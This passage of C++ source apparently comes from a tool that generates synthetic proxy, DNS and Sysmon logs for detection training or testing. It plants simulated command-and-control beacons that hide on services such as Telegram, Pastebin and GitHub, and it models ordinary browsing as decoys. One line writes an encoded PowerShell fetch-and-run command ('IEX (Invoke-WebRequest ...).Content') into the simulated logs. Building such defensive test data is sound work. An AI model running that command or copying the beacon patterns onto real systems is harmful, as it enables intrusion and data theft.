    replaceAll(s, "{token2}", token2);
    replaceAll(s, "{token}", token);
    replaceAll(s, "{repo}", repo);
    replaceAll(s, "{hex}", hex);
    replaceAll(s, "{num}", num);
    return s;
}

// ---------------------------------------------------------------------------------------------
// Channels

std::vector<int> ScenarioGenerator::pickHosts(const ChannelSpec& spec, int specIndex, std::vector<int>& used) {
    RandomSource r = RandomSource::derived(options_.seed, 50, uint64_t(specIndex));
    std::vector<int> pool;
    auto collect = [&](auto pred, bool excludeUsed) {
        pool.clear();
        for (int i = 0; i < static_cast<int>(world_.hosts.size()); ++i) {
            if (pred(world_.hosts[size_t(i)]) &&
                (!excludeUsed || std::find(used.begin(), used.end(), i) == used.end())) {
                pool.push_back(i);
            }
        }
        return !pool.empty();
    };
    auto ws = [](const SimHost& h) { return !h.server; };
    auto office = [](const SimHost& h) { return !h.server && !h.developer; };
    auto dev = [](const SimHost& h) { return h.developer; };
    auto winServer = [](const SimHost& h) { return h.server && !h.linuxOs && h.role != "domain-controller"; };
    auto anyWinServer = [](const SimHost& h) { return h.server && !h.linuxOs; };
    auto linuxServer = [](const SimHost& h) { return h.server && h.linuxOs; };
    // The build server keeps its proxy: the CI look-alike needs it in the proxy log.
    auto quietLinuxServer = [](const SimHost& h) { return h.server && h.linuxOs && h.role != "build-server"; };
    auto build = [](const SimHost& h) { return h.role == "build-server"; };
    auto one = [&]() -> std::vector<int> {
        return pool.empty() ? std::vector<int>{}
                            : std::vector<int>{pool[size_t(r.uniformInt(0, int64_t(pool.size()) - 1))]};
    };
    switch (spec.pick) {
    case HostPick::Workstation:
        if (collect(office, true) || collect(ws, true) || collect(ws, false)) {
            return one();
        }
        return {};
    case HostPick::Developer:
        if (collect(dev, true) || collect(ws, true) || collect(ws, false)) {
            return one();
        }
        return {};
    case HostPick::WindowsServer:
        if (collect(winServer, true) || collect(anyWinServer, true) || collect(office, true) || collect(ws, false)) {
            return one();
        }
        return {};
    case HostPick::LinuxServer:
        if (collect(quietLinuxServer, true) || collect(linuxServer, true) || collect(office, true) ||
            collect(ws, false)) {
            return one();
        }
        return {};
    case HostPick::BuildServer:
        collect(build, false);
        return pool.empty() ? pool : std::vector<int>{pool.front()};
    case HostPick::AllDevelopers:
        collect(dev, false);
        return pool;
    case HostPick::AllWorkstations:
        collect(ws, false);
        return pool;
    case HostPick::AllServers:
        collect(anyWinServer, false);
        return pool;
    case HostPick::AllLinuxServers:
        collect(linuxServer, false);
        return pool;
    case HostPick::SomeWorkstations: {
        collect(ws, false);
        std::vector<int> some;
        for (int i : pool) {
            if (r.chance(spec.share)) {
                some.push_back(i);
            }
        }
        if (some.empty() && !pool.empty()) {
            some.push_back(pool[size_t(r.uniformInt(0, int64_t(pool.size()) - 1))]);
        }
        return some;
    }
    }
    return {};
}

void ScenarioGenerator::plantChannels() {
    std::string unknown;
    const std::vector<std::string> wanted = ChannelCatalog::positivesFor(options_.scenario, &unknown);
    std::vector<int> used;
    const auto& all = ChannelCatalog::all();
    for (size_t i = 0; i < all.size(); ++i) {
        const ChannelSpec& spec = all[i];
        if (spec.positive && std::find(wanted.begin(), wanted.end(), spec.id) == wanted.end()) {
            continue;
        }
        std::vector<int> hosts = pickHosts(spec, static_cast<int>(i), used);
        if (hosts.empty()) {
            continue;
        }
        if (spec.positive) {
            // A planted implant survives the night: its host stays on, and it carries the
            // visibility the scenario asks for.
            for (int h : hosts) {
                used.push_back(h);
                SimHost& host = world_.hosts[size_t(h)];
                host.alwaysOn = true;
                host.powered = {{world_.startUs - kDay, world_.endUs + kDay}};
                host.sysmon = host.sysmon && !spec.noSysmon;
                host.directEgress = host.directEgress || spec.directEgress;
            }
        }
        plantChannel(spec, static_cast<int>(i), hosts);
    }
}

void ScenarioGenerator::plantChannel(const ChannelSpec& spec, int specIndex, const std::vector<int>& hosts) {
    ChannelTruth truth;
    truth.id = spec.id;
    truth.spec = &spec;
    truth.hosts = hosts;
    const int truthIndex = static_cast<int>(truth_.size());
    truth_.push_back(truth);
    const int64_t windowHours = int64_t(options_.days) * 24;
    double startHour = spec.startHour;
    if (startHour > double(windowHours) * 0.7) {
        // A shorter case than the channel was written for: start early enough to be seen.
        startHour = std::fmod(startHour, 24.0);
        if (startHour > double(windowHours) * 0.7) {
            startHour = double(windowHours) * 0.25;
        }
    }
    static const char* repos[] = {"payments-api", "web-frontend",  "infra-terraform",
                                  "mobile-app",   "data-pipeline", "auth-service"};

    for (int host : hosts) {
        const SimHost& h = world_.hosts[size_t(host)];
        RandomSource r = RandomSource::derived(options_.seed, 100 + uint64_t(specIndex), uint64_t(host));
        const std::string destHost = spec.destHost;
        std::string token;
        if (destHost == "api.telegram.org") {
            token = "6" + randomToken(r, 9, "0123456789") + ":AA" + randomToken(r, 33, kAlnum);
        } else if (destHost == "docs.google.com") {
            token = "1" + randomToken(r, 43, kAlnum);
        } else if (destHost == "api.github.com") {
            token = randomToken(r, 32, kHex);
        } else if (destHost == "api.onedrive.com") {
            token = randomToken(r, 40, kAlnum);
        } else if (destHost == "pastebin.com" || destHost == "paste.ee") {
            token = randomToken(r, 8, kAlnum);
        } else {
            token = randomToken(r, 10, kLowerAlnum);
        }
        const std::string token2 = std::to_string(r.uniformInt(1000000000000000000LL, 1299999999999999999LL));
        const std::string repo = repos[r.uniformInt(0, int64_t(std::size(repos)) - 1)];
        const std::string hex = randomToken(r, 16, kHex);
        const std::string num = std::to_string(r.uniformInt(100000000, 999999999));
        auto ex = [&](const char* t) { return expand(t, host, token, token2, repo, hex, num); };

        const int dest = destination(destHost);
        const std::string target = ex(spec.target);
        const std::string url = std::string(isIpLiteral(destHost) ? "tcp://" : "https://") + destHost + target;
        std::string commandLine = ex(spec.commandLine);
        replaceAll(commandLine, "{encoded}",
                   powershellEncoded("IEX (Invoke-WebRequest -UseBasicParsing -Uri '" + url + "').Content"));
        const std::string image = ex(spec.image);
        const std::string ua = std::string(spec.userAgent) == "{browser}" ? h.browserUa : ex(spec.userAgent);
        const std::string* uaPtr = internString(ua);
        const int outputDest = *spec.outputHost ? destination(spec.outputHost) : -1;
        const std::string outputTarget = ex(spec.outputTarget);
        const Method method = std::string(spec.method) == "POST" ? Method::Post : Method::Get;
        const bool system = spec.runAsSystem;

        const int64_t start =
            std::max(world_.startUs, world_.startUs + static_cast<int64_t>(startHour * double(kHour)) +
                                         (spec.positive ? r.uniformInt(0, 20 * kMinute) : 0));
        const int64_t stop =
            spec.stopHour > 0 ? world_.startUs + static_cast<int64_t>(spec.stopHour * double(kHour)) : world_.endUs;
        ChannelTruth& t = truth_[size_t(truthIndex)];
        if (t.url.empty()) {
            t.dest = dest;
            t.outputDest = outputDest;
            t.url = url;
            t.outputUrl = outputDest >= 0 ? "https://" + std::string(spec.outputHost) + outputTarget : std::string();
            t.image = image;
            t.commandLine = commandLine;
            t.parentImage = ex(spec.parentImage);
            t.launcherImage = spec.launcherImage;
            t.activeFromUs = start;
            t.activeToUs = stop;
        }

        // The process tree. Positives start inside the window so their creation is in the logs.
        int parent = -1;
        if (spec.positive || spec.parentFresh) {
            if (spec.parentFresh) {
                const int explorer =
                    longLivedProcess(host, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", start, false);
                parent = newProcess(host, ex(spec.parentImage), ex(spec.parentCommandLine), explorer,
                                    start - 47 * kSecond, 0, false, truthIndex);
            } else if (!h.linuxOs) {
                parent = longLivedProcess(host, ex(spec.parentImage), ex(spec.parentCommandLine), start,
                                          systemImage(lower(basenameOf(spec.parentImage))));
            } else {
                parent = newProcess(host, ex(spec.parentImage), ex(spec.parentCommandLine), -1, start - 2 * kSecond, 0,
                                    true, truthIndex);
            }
        }
        if (*spec.setupImage) {
            const int explorer =
                longLivedProcess(host, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", start, false);
            const int64_t at = start - 3 * kMinute - r.uniformInt(0, 60 * kSecond);
            newProcess(host, spec.setupImage, ex(spec.setupCommandLine), explorer, at, at + 380 * 1000, false,
                       truthIndex);
        }
        int launcher = -1;
        if (*spec.launcherImage) {
            launcher = newProcess(host, spec.launcherImage, ex(spec.launcherCommandLine), parent, start - 2 * kSecond,
                                  0, false, truthIndex);
        }
        int mainProcess = -1;
        if (spec.positive && !spec.processPerPoll) {
            mainProcess = newProcess(host, image, commandLine, launcher >= 0 ? launcher : parent, start - kSecond, 0,
                                     system, truthIndex);
            t.processes.push_back(mainProcess);
        }

        const double meanDurationMs = 70.0 + spec.bytesIn / 150.0;
        int64_t at =
            start + static_cast<int64_t>(r.uniform(0.05, 1.0) * std::min(spec.intervalS, 90.0) * double(kSecond));
        int64_t lastDay = -1;
        while (at < stop) {
            int64_t next = 0, end = 0;
            const bool active =
                spec.schedule == Schedule::WorkingHours ? deskAt(h, at, &next, &end) : poweredAt(h, at, &next, &end);
            if (!active) {
                if (next == INT64_MAX) {
                    break;
                }
                // Apps come back a little after the user or the machine does.
                at = next +
                     static_cast<int64_t>(r.uniform(20, 40 + std::min(spec.intervalS, 600.0) * 0.5) * double(kSecond));
                continue;
            }
            SimRequest q;
            q.startUs = at;
            q.durationMs = static_cast<int32_t>(std::max(12.0, r.normal(meanDurationMs, meanDurationMs * 0.25)));
            q.host = host;
            q.dest = dest;
            q.channel = truthIndex;
            q.method = method;
            q.status = static_cast<int16_t>(spec.status);
            q.bytesOut = spec.bytesOut + r.uniformInt(-3, 3);
            q.bytesIn = spec.bytesIn + r.uniformInt(-spec.bytesInSpread, spec.bytesInSpread);
            if (spec.positive && r.chance(1.0 / 40)) {
                q.bytesIn += r.uniformInt(300, 2400); // a command was waiting
            }
            q.target = target;
            q.userAgent = uaPtr;
            q.contentType = spec.contentType;
            q.keepAliveS = static_cast<int16_t>(spec.keepAliveS);
            q.uidSeed = r.next();
            if (spec.processPerPoll) {
                const int p = launcher >= 0 ? launcher
                              : parent >= 0 ? parent
                                            : longLivedProcess(host, ex(spec.parentImage), ex(spec.parentCommandLine),
                                                               at, systemImage(lower(basenameOf(spec.parentImage))));
                q.process = newProcess(host, image, commandLine, p, at - 180 * 1000 - r.uniformInt(0, 90 * 1000),
                                       q.endUs() + 120 * 1000 + r.uniformInt(0, 80 * 1000), system, truthIndex);
                if (t.processes.size() < 3) {
                    t.processes.push_back(q.process);
                }
            } else if (mainProcess >= 0) {
                q.process = mainProcess;
            } else if (std::string(spec.image) == "{browser}") {
                q.process = browserProcess(host, at);
            } else {
                q.process = longLivedProcess(host, image, commandLine, at, system);
            }
            if (*spec.fileCreated && h.sysmon) {
                SimSysmonEvent e;
                e.tsUs = q.endUs() + 4000 + r.uniformInt(0, 3000);
                e.host = host;
                e.eventId = 11;
                e.process = q.process;
                e.targetFilename = ex(spec.fileCreated);
                world_.sysmon.push_back(std::move(e));
            }
            ++t.polls;
            t.firstPollUs = t.firstPollUs == 0 ? at : std::min(t.firstPollUs, at);
            t.lastPollUs = std::max(t.lastPollUs, at);
            t.hourMask |= 1u << (((at - world_.startUs) % kDay) / kHour);
            const int64_t day = (at - world_.startUs) / kDay;
            if (day != lastDay && std::find(t.activeDays.begin(), t.activeDays.end(), int(day)) == t.activeDays.end()) {
                t.activeDays.push_back(static_cast<int>(day));
                lastDay = day;
            }
            const int process = q.process;
            world_.requests.push_back(std::move(q));

            if (outputDest >= 0 && spec.outputEvery > 0 && r.chance(1.0 / spec.outputEvery)) {
                SimRequest o;
                o.startUs = at + r.uniformInt(3 * kSecond, 25 * kSecond);
                o.durationMs = static_cast<int32_t>(r.uniform(120, 400));
                o.host = host;
                o.dest = outputDest;
                o.channel = truthIndex;
                o.method = Method::Post;
                o.status = 204;
                o.bytesOut = r.uniformInt(900, 6000);
                o.bytesIn = 390 + r.uniformInt(-5, 5);
                o.target = outputTarget;
                o.userAgent = uaPtr;
                o.contentType = "-";
                o.uidSeed = r.next();
                o.process = process;
                world_.requests.push_back(std::move(o));
            }
            const double gap = std::max(1.0, r.jittered(spec.intervalS, spec.jitter));
            at += static_cast<int64_t>(gap * double(kSecond));
        }
    }
}

// ---------------------------------------------------------------------------------------------
// People browsing

void ScenarioGenerator::simulateBrowsing() {
    const auto& siteList = sites();
    std::vector<int> siteDest(siteList.size());
    std::vector<std::vector<int>> fanoutDest(siteList.size());
    for (size_t s = 0; s < siteList.size(); ++s) {
        siteDest[s] = destination(siteList[s].host);
        for (const char* f : siteList[s].fanout) {
            fanoutDest[s].push_back(destination(f));
        }
    }
    static const char* staticTypes[] = {
        "application/javascript", "text/css",     "image/png", "image/webp", "font/woff2",
        "application/json",       "image/svg+xml"};
    for (int hi = 0; hi < static_cast<int>(world_.hosts.size()); ++hi) {
        const SimHost& h = world_.hosts[size_t(hi)];
        if (h.server) {
            continue;
        }
        RandomSource r = RandomSource::derived(options_.seed, 3, uint64_t(hi));
        // Personal taste: everyone weighs the sites a little differently, some a lot.
        std::vector<double> weight(siteList.size());
        double total = 0;
        for (size_t s = 0; s < siteList.size(); ++s) {
            weight[s] = (h.developer ? siteList[s].weightDev : siteList[s].weightOffice) * std::exp(r.normal(0, 0.9));
            total += weight[s];
        }
        const std::string* ua = internString(h.browserUa);
        auto word = [&r]() { return std::string(kWords[r.uniformInt(0, int64_t(std::size(kWords)) - 1)]); };
        for (const auto& day : h.desk) {
            for (const auto& [from, to] : day) {
                int64_t t = from + static_cast<int64_t>(r.exponential(90) * double(kSecond));
                while (t < to) {
                    double x = r.uniform01() * total;
                    size_t s = 0;
                    for (; s + 1 < siteList.size(); ++s) {
                        if ((x -= weight[s]) < 0) {
                            break;
                        }
                    }
                    const Site& site = siteList[s];
                    std::string path = site.paths[size_t(r.uniformInt(0, int64_t(site.paths.size()) - 1))];
                    for (const char* ph : {"{w}", "{W}", "{n}", "{p}"}) {
                        size_t pos;
                        while ((pos = path.find(ph)) != std::string::npos) {
                            std::string v;
                            if (ph[1] == 'w') {
                                v = word();
                            } else if (ph[1] == 'W') {
                                v = word();
                                v[0] = static_cast<char>(std::toupper(static_cast<unsigned char>(v[0])));
                            } else if (ph[1] == 'n') {
                                v = std::to_string(r.uniformInt(10000, 99999999));
                            } else {
                                v = randomToken(r, 8, kAlnum);
                            }
                            path.replace(pos, 3, v);
                        }
                    }
                    const int process = browserProcess(hi, t);
                    SimRequest page;
                    page.startUs = t;
                    page.durationMs = static_cast<int32_t>(std::max(30.0, r.exponential(260)));
                    page.host = hi;
                    page.process = process;
                    page.dest = siteDest[s];
                    page.status = 200;
                    page.bytesOut = 600 + r.uniformInt(0, 900);
                    page.bytesIn = 8000 + static_cast<int64_t>(r.exponential(60000));
                    page.target = path;
                    page.userAgent = ua;
                    page.contentType = "text/html; charset=utf-8";
                    page.keepAliveS = 60;
                    page.uidSeed = r.next();
                    const std::string referrer = "https://" + std::string(site.host) + path;
                    world_.requests.push_back(std::move(page));
                    const int fan = fanoutDest[s].empty() ? 0 : static_cast<int>(r.uniformInt(2, 9));
                    for (int k = 0; k < fan; ++k) {
                        SimRequest sub;
                        sub.startUs = t + 80 * 1000 + static_cast<int64_t>(r.exponential(700) * 1000);
                        sub.durationMs = static_cast<int32_t>(std::max(8.0, r.exponential(90)));
                        sub.host = hi;
                        sub.process = process;
                        sub.dest = fanoutDest[s][size_t(r.uniformInt(0, int64_t(fanoutDest[s].size()) - 1))];
                        const bool revalidated = r.chance(0.25);
                        sub.status = revalidated ? 304 : 200;
                        sub.bytesOut = 450 + r.uniformInt(0, 600);
                        sub.bytesIn =
                            revalidated ? 310 + r.uniformInt(0, 200) : 600 + static_cast<int64_t>(r.exponential(25000));
                        sub.target = "/" + randomToken(r, 6, kLowerAlnum) + "/" + word() + "." +
                                     std::string(r.chance(0.5)   ? "js"
                                                 : r.chance(0.5) ? "css"
                                                                 : "png");
                        sub.referrer = referrer;
                        sub.userAgent = ua;
                        sub.contentType =
                            revalidated ? "-" : staticTypes[r.uniformInt(0, int64_t(std::size(staticTypes)) - 1)];
                        sub.keepAliveS = 60;
                        sub.uidSeed = r.next();
                        world_.requests.push_back(std::move(sub));
                    }
                    // Reading time, and now and then a longer pause (a call, a document, a colleague).
                    double gap = r.exponential(75) + 4;
                    if (r.chance(0.12)) {
                        gap += r.exponential(720);
                    }
                    t += static_cast<int64_t>(gap * double(kSecond));
                }
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// From requests to what the proxy, the DNS server and Sysmon log

void ScenarioGenerator::resolveConnections() {
    std::vector<SimRequest> requests = std::move(world_.requests);
    world_.requests.clear();
    std::vector<size_t> order(requests.size());
    for (size_t i = 0; i < order.size(); ++i) {
        order[i] = i;
    }
    std::stable_sort(order.begin(), order.end(), [&requests](size_t a, size_t b) {
        if (requests[a].host != requests[b].host) {
            return requests[a].host < requests[b].host;
        }
        return requests[a].startUs < requests[b].startUs;
    });

    struct Connection {
        int64_t opened = 0;
        int64_t last = 0;
        uint16_t port = 0;
        int ipIndex = 0;
        int64_t bytesOut = 0;
        int64_t bytesIn = 0;
        int channel = -1;
        int process = -1;
        int dest = -1;
        int keepAliveS = 0;
        const std::string* ua = nullptr;
        uint64_t uidSeed = 0;
        bool tunnel = false;
    };
    struct CacheEntry {
        int64_t expires = 0;
        int ipIndex = 0;
    };

    // The Sysmon configuration (in the manner of SwiftOnSecurity's) leaves out network and DNS
    // events of a few chatty signed Microsoft agents, by image path.
    std::vector<char> quietProcess(world_.processes.size());
    for (size_t p = 0; p < world_.processes.size(); ++p) {
        const std::string& image = world_.processes[p].image;
        for (const char* quiet : {"\\Windows Defender Advanced Threat Protection\\MsSense.exe",
                                  "\\Microsoft\\OneDrive\\OneDrive.exe", "\\Microsoft\\Teams\\current\\Teams.exe"}) {
            const size_t n = std::char_traits<char>::length(quiet);
            quietProcess[p] = quietProcess[p] || (image.size() >= n && image.compare(image.size() - n, n, quiet) == 0);
        }
    }
    std::vector<SimRequest> out;
    out.reserve(requests.size() / 2);
    size_t i = 0;
    while (i < order.size()) {
        const int hostIndex = requests[order[i]].host;
        const SimHost& h = world_.hosts[size_t(hostIndex)];
        RandomSource r = RandomSource::derived(options_.seed, 4, uint64_t(hostIndex));
        std::unordered_map<uint64_t, Connection> conns;
        std::unordered_map<int, CacheEntry> cache;
        uint16_t port = static_cast<uint16_t>(r.uniformInt(49800, 60000));
        std::vector<uint64_t> closeOrder; // deterministic closing at the end

        auto closeConnection = [&](const Connection& c) {
            if (!c.tunnel) {
                return;
            }
            const int64_t end = c.last + std::max<int64_t>(c.keepAliveS, 1) * kSecond;
            if (end >= world_.endUs) {
                return; // still open when the logs were collected
            }
            SimRequest t;
            t.startUs = c.opened;
            t.durationMs = static_cast<int32_t>((end - c.opened) / 1000);
            t.host = hostIndex;
            t.process = c.process;
            t.dest = c.dest;
            t.channel = c.channel;
            t.ipIndex = c.ipIndex;
            t.clientPort = c.port;
            t.method = Method::Connect;
            t.status = 200;
            t.bytesOut = c.bytesOut + 620; // TLS handshake on top of the requests
            t.bytesIn = c.bytesIn + 4700;  // certificate chain
            t.userAgent = c.ua;
            t.contentType = "-";
            t.uidSeed = c.uidSeed;
            out.push_back(std::move(t));
        };

        for (; i < order.size() && requests[order[i]].host == hostIndex; ++i) {
            SimRequest& q = requests[order[i]];
            const SimDestination& d = world_.dests[size_t(q.dest)];
            const uint64_t key = (uint64_t(uint32_t(q.process)) << 24) | uint32_t(q.dest);
            auto it = conns.find(key);
            const bool reuse = it != conns.end() && q.keepAliveS > 0 &&
                               q.startUs <= it->second.last + int64_t(q.keepAliveS) * kSecond &&
                               q.startUs <= it->second.opened + kMaxConnectionLife;
            if (!reuse) {
                if (it != conns.end()) {
                    closeConnection(it->second);
                }
                Connection c;
                c.opened = q.startUs;
                c.process = q.process;
                c.dest = q.dest;
                c.channel = q.channel;
                c.keepAliveS = q.keepAliveS;
                c.ua = q.userAgent;
                c.uidSeed = q.uidSeed;
                c.tunnel = !d.inspected && !h.directEgress;
                port =
                    static_cast<uint16_t>(port >= 65500 ? 49700 + r.uniformInt(0, 300) : port + 1 + r.uniformInt(0, 2));
                c.port = port;
                // Windows caches answers for their TTL; glibc does not cache, so Linux asks every time.
                const bool literal = isIpLiteral(d.host);
                auto ce = cache.find(q.dest);
                const bool cached = !literal && !h.linuxOs && ce != cache.end() && ce->second.expires > q.startUs;
                if (literal) {
                    c.ipIndex = 0;
                } else if (cached) {
                    c.ipIndex = ce->second.ipIndex;
                } else {
                    SimDnsQuery dq;
                    dq.rttUs = static_cast<int32_t>(r.uniformInt(400, 28000));
                    dq.tsUs = q.startUs - dq.rttUs - r.uniformInt(300, 2000);
                    dq.host = hostIndex;
                    dq.dest = q.dest;
                    dq.ipIndex = static_cast<int>(r.uniformInt(0, int64_t(d.ips.size()) - 1));
                    dq.clientPort = static_cast<uint16_t>(r.uniformInt(50000, 65000));
                    dq.xid = static_cast<uint16_t>(r.next());
                    dq.uidSeed = r.next();
                    c.ipIndex = dq.ipIndex;
                    cache[q.dest] = CacheEntry{q.startUs + int64_t(d.ttl) * kSecond, dq.ipIndex};
                    if (dq.tsUs >= world_.startUs) {
                        world_.dns.push_back(dq);
                        if (q.channel >= 0) {
                            ++truth_[size_t(q.channel)].dnsQueries;
                        }
                        if (h.sysmon && !quietProcess[size_t(q.process)]) {
                            SimSysmonEvent e;
                            e.tsUs = dq.tsUs + dq.rttUs + 200;
                            e.host = hostIndex;
                            e.eventId = 22;
                            e.process = q.process;
                            e.dest = q.dest;
                            e.ipIndex = dq.ipIndex;
                            world_.sysmon.push_back(std::move(e));
                        }
                    }
                }
                if (h.sysmon && !quietProcess[size_t(q.process)]) {
                    SimSysmonEvent e;
                    e.tsUs = q.startUs + r.uniformInt(200, 2500);
                    e.host = hostIndex;
                    e.eventId = 3;
                    e.process = q.process;
                    e.dest = q.dest;
                    e.ipIndex = c.ipIndex;
                    e.sourcePort = c.port;
                    world_.sysmon.push_back(std::move(e));
                }
                if (it == conns.end()) {
                    closeOrder.push_back(key);
                }
                it = conns.insert_or_assign(key, c).first;
            }
            Connection& c = it->second;
            c.last = std::max(c.last, q.endUs());
            q.clientPort = c.port;
            q.ipIndex = c.ipIndex;
            if (h.directEgress) {
                continue; // no proxy in the path: nothing in the proxy log
            }
            if (c.tunnel) {
                c.bytesOut += q.bytesOut;
                c.bytesIn += q.bytesIn;
                continue;
            }
            if (q.endUs() < world_.endUs && q.startUs >= world_.startUs) {
                out.push_back(std::move(q));
            }
        }
        for (uint64_t key : closeOrder) {
            closeConnection(conns[key]);
        }
    }
    for (const SimRequest& q : out) {
        if (q.channel >= 0) {
            ++truth_[size_t(q.channel)].proxyLines;
        }
    }
    // The proxy writes a line when a transaction ends.
    std::stable_sort(out.begin(), out.end(),
                     [](const SimRequest& a, const SimRequest& b) { return a.endUs() < b.endUs(); });
    world_.requests = std::move(out);
    std::stable_sort(world_.dns.begin(), world_.dns.end(),
                     [](const SimDnsQuery& a, const SimDnsQuery& b) { return a.tsUs < b.tsUs; });
}

void ScenarioGenerator::emitProcessEvents() {
    for (int pi = 0; pi < static_cast<int>(world_.processes.size()); ++pi) {
        const SimProcess& p = world_.processes[size_t(pi)];
        const SimHost& h = world_.hosts[size_t(p.host)];
        if (!h.sysmon) {
            continue;
        }
        if (p.startUs >= world_.startUs && p.startUs < world_.endUs) {
            SimSysmonEvent e;
            e.tsUs = p.startUs;
            e.host = p.host;
            e.eventId = 1;
            e.process = pi;
            world_.sysmon.push_back(std::move(e));
        }
        if (p.endUs > 0 && p.endUs >= world_.startUs && p.endUs < world_.endUs) {
            SimSysmonEvent e;
            e.tsUs = p.endUs;
            e.host = p.host;
            e.eventId = 5;
            e.process = pi;
            world_.sysmon.push_back(std::move(e));
        }
    }
    // Events outside the window (a poll's file write just after the end) are not in the export.
    world_.sysmon.erase(
        std::remove_if(world_.sysmon.begin(), world_.sysmon.end(),
                       [this](const SimSysmonEvent& e) { return e.tsUs < world_.startUs || e.tsUs >= world_.endUs; }),
        world_.sysmon.end());
    std::stable_sort(world_.sysmon.begin(), world_.sysmon.end(),
                     [](const SimSysmonEvent& a, const SimSysmonEvent& b) { return a.tsUs < b.tsUs; });
    std::vector<int64_t> recordIds(world_.hosts.size());
    for (size_t i = 0; i < recordIds.size(); ++i) {
        recordIds[i] = 10000 + int64_t(world_.hosts[i].machineTag % 900000);
    }
    for (SimSysmonEvent& e : world_.sysmon) {
        e.recordId = ++recordIds[size_t(e.host)];
        const int ch = world_.processes[size_t(e.process)].channel;
        if (ch >= 0) {
            ++truth_[size_t(ch)].sysmonEvents;
        }
    }
}

void ScenarioGenerator::collectBrowsingLookalikes() {
    // People reading the very sites channels hide on: one look-alike per site and browser.
    static const char* watched[] = {"pastebin.com", "github.com",     "api.github.com", "raw.githubusercontent.com",
                                    "gitlab.com",   "www.reddit.com", "docs.google.com"};
    std::map<std::pair<std::string, std::string>, int> entries;
    for (const SimRequest& q : world_.requests) {
        if (q.channel >= 0 || q.process < 0) {
            continue;
        }
        const SimDestination& d = world_.dests[size_t(q.dest)];
        if (std::find_if(std::begin(watched), std::end(watched), [&d](const char* w) { return d.host == w; }) ==
            std::end(watched)) {
            continue;
        }
        const SimHost& h = world_.hosts[size_t(q.host)];
        if (world_.processes[size_t(q.process)].image != h.browserImage) {
            continue;
        }
        const auto key = std::make_pair(d.host, h.browserImage);
        auto it = entries.find(key);
        if (it == entries.end()) {
            ChannelTruth t;
            t.id = "browser-" + d.host + "-" +
                   lower(basenameOf(h.browserImage)).substr(0, lower(basenameOf(h.browserImage)).size() - 4);
            t.browsing = true;
            t.dest = q.dest;
            t.url = "https://" + d.host + "/";
            t.image = h.browserImage;
            t.parentImage = "C:\\Windows\\explorer.exe";
            t.activeFromUs = world_.startUs;
            t.activeToUs = world_.endUs;
            truth_.push_back(std::move(t));
            it = entries.emplace(key, static_cast<int>(truth_.size()) - 1).first;
        }
        ChannelTruth& t = truth_[size_t(it->second)];
        if (std::find(t.hosts.begin(), t.hosts.end(), q.host) == t.hosts.end()) {
            t.hosts.push_back(q.host);
        }
        ++t.proxyLines;
        ++t.polls;
        t.firstPollUs = t.firstPollUs == 0 ? q.startUs : std::min(t.firstPollUs, q.startUs);
        t.lastPollUs = std::max(t.lastPollUs, q.startUs);
        t.hourMask |= 1u << (((q.startUs - world_.startUs) % kDay) / kHour);
        const int day = static_cast<int>((q.startUs - world_.startUs) / kDay);
        if (std::find(t.activeDays.begin(), t.activeDays.end(), day) == t.activeDays.end()) {
            t.activeDays.push_back(day);
        }
    }
}

void ScenarioGenerator::finishTruth() {
    for (ChannelTruth& t : truth_) {
        std::sort(t.hosts.begin(), t.hosts.end());
        std::sort(t.activeDays.begin(), t.activeDays.end());
    }
    // Channels that never polled (a working-hours channel in a weekend-only case) stay in the
    // table, because requests refer to them by index; the truth file leaves them out.
}

GenerationSummary ScenarioGenerator::write(const std::string& outDir) {
    const auto t0 = std::chrono::steady_clock::now();
    std::filesystem::create_directories(outDir);
    GenerationSummary summary;
    std::vector<std::string> formats = options_.formats;
    for (const std::string& f : formats) {
        GeneratedFile file = ScenarioWriters::write(f, world_, outDir);
        if (file.kind == "proxy") {
            summary.proxyRecords += file.records;
        } else if (file.kind == "dns") {
            summary.dnsRecords += file.records;
        } else if (file.kind == "sysmon") {
            summary.sysmonRecords += file.records;
        }
        summary.files.push_back(std::move(file));
    }
    summary.files.push_back(TruthWriter::write(*this, summary.files, outDir));
    summary.seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
    return summary;
}

} // namespace socwb::scenario
